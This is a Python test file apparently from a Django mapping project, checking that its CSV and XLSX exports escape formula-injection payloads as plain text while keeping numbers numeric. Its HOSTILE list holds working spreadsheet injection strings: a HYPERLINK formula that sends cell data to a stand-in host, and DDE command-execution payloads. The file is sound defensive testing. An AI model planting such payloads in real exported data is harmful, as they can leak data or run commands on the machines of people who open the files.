"""Formula injection (OWASP CSV injection): a text led by =, +, -, @, tab or CR opens as text in every CSV and
XLSX the product writes; numbers, negative ones included, stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from exports.services import export_file
from exports.writers import Warnings, XlsxWriter
from gis.spreadsheets import csv_cell, is_formula_like
from tests.exports.builders import canteen, read_csv

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_the_rule_names_formula_triggers_and_leaves_numbers_and_plain_text():
    assert all(is_formula_like(text) for text in HOSTILE)
    assert not any(is_formula_like(v) for v in ["-12.5", "+3", "-120.6", "1e-5", "东山路1号", "", -3, 1.5, None])
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("-12.5") == "-12.5" and csv_cell(-12.5) == -12.5


@pytest.mark.parametrize("profile", ["amap", "baidu", "csv", "shangtu"])
def test_a_csv_export_writes_hostile_names_as_text(wenzhou_counties, tmp_path, profile):
    layer = "canteens" if profile != "shangtu" else "roads"
    if profile == "shangtu":
        from tests.exports.builders import place

        for i, text in enumerate(HOSTILE):
            place(text, shift=i)
    else:
        for i, text in enumerate(HOSTILE):
            canteen(text, shift=i, address=text)

    result = export_file(profile=profile, layer=layer, out=tmp_path / f"out.{profile}", encoding="utf-8")

    rows = list(csv.reader(io.StringIO(result.files[0].read_bytes().decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if is_formula_like(cell)]
    names = {row[0] if profile != "csv" else row[rows[0].index("name")] for row in rows[1:]}
    assert names == {"'" + text for text in HOSTILE}


def test_csv_coordinates_stay_signed_numbers(wenzhou_counties, tmp_path):
    canteen("=1+1")
    result = export_file(profile="amap", layer="canteens", out=tmp_path / "a.csv")
    [row] = read_csv(result.files[0])
    assert float(row["longitude"]) > 120 and row["_name"] == "'=1+1"


def test_an_xlsx_export_holds_hostile_names_as_string_cells_and_numbers_as_numbers(wenzhou_counties, tmp_path):
    for i, text in enumerate(HOSTILE):
        canteen(text, shift=i, address=text, seats=40)

    result = export_file(profile="amap-xlsx", layer="canteens", out=tmp_path / "out.xlsx")

    sheet = load_workbook(result.files[0]).active
    header = [c.value for c in sheet[1]]
    body = list(sheet.iter_rows(min_row=2))
    names = [row[header.index("_name")] for row in body]
    # The text as entered (XML reads a lone CR back as LF).
    assert sorted(c.value for c in names) == sorted(t.replace("\r", "\n") for t in HOSTILE)
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
    assert not [c for row in body for c in row if c.data_type == "f"]
    assert all(row[header.index("longitude")].data_type == "n" for row in body)
    assert all(row[header.index("seats")].value == 40 for row in body)


def test_the_xlsx_writer_keeps_negative_numbers_and_numeric_text_as_they_are(tmp_path):
    writer = XlsxWriter(tmp_path / "w.xlsx", ["a", "b", "c", "d"], sheet_title="t", warnings=Warnings())
    writer.write([[-120.5, "-12.5", "-2+3", "=1"]])
    [path] = writer.close()

    [row] = list(load_workbook(path).active.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in row] == [(-120.5, "n"), ("-12.5", "s"), ("-2+3", "s"), ("=1", "s")]
    assert [c.quotePrefix for c in row] == [False, False, True, True]

